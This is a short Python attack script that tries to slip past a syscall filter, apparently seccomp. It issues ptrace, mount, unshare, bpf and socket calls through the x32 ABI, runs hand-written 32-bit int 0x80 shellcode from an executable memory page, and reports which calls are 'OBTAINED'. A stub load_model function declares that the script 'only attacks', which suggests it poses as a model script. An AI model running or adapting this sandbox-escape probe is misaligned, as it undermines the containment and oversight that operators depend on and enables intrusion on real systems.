# Tries: to pass beside the filter with the calls of another architecture: 32 bits and x32.
import ctypes
import mmap
import os
import platform


def main():
    if platform.machine() != "x86_64":
        print("only for x86-64")
        return
    for name, number in (
        ("ptrace", 101),
        ("mount", 165),
        ("unshare", 272),
        ("bpf", 321),
        ("socket", 41),
        ("getpid", 39),
    ):
        answer = ctypes.CDLL(None).syscall(ctypes.c_long(0x40000000 | number), 2, 1, 0, 0)
        print("OBTAINED" if answer >= 0 else "refused", "x32", name)
    # mov eax, 20 (getpid); int 0x80; ret
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    pid = os.fork()
    if pid == 0:
        answer = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
        print("OBTAINED a 32-bit call", answer, flush=True)
        os._exit(0)
    print("the 32-bit child ended with", os.waitpid(pid, 0)[1])


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
